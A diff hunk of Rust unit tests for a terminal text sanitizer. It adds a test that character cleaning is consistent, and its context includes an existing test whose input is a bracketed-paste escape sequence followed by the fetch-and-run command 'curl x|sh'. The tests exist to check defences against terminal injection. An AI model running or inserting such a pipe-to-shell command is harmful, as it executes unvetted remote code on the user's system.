@@ -267,6 +267,16 @@ mod tests {
     }
 
     #[test]
+    fn whether_a_character_is_kept_does_not_depend_on_the_quick_look() {
+        for c in '\0'..='\u{500}' {
+            let (alone, beside) = (clean(&c.to_string()), clean(&format!("\0{c}")));
+            let kept = if c == '\r' { "\n".into() } else { String::from(c) };
+            assert_eq!(alone, if is_stray_control(c) && c != '\r' { "" } else { &kept });
+            assert_eq!(alone, beside, "{c:?}");
+        }
+    }
+
+    #[test]
     fn escape_sequences_leave_nothing_behind() {
         assert_eq!(for_terminal("text\x1b[201~\rcurl x|sh\r"), "text\ncurl x|sh\n");
         assert_eq!(
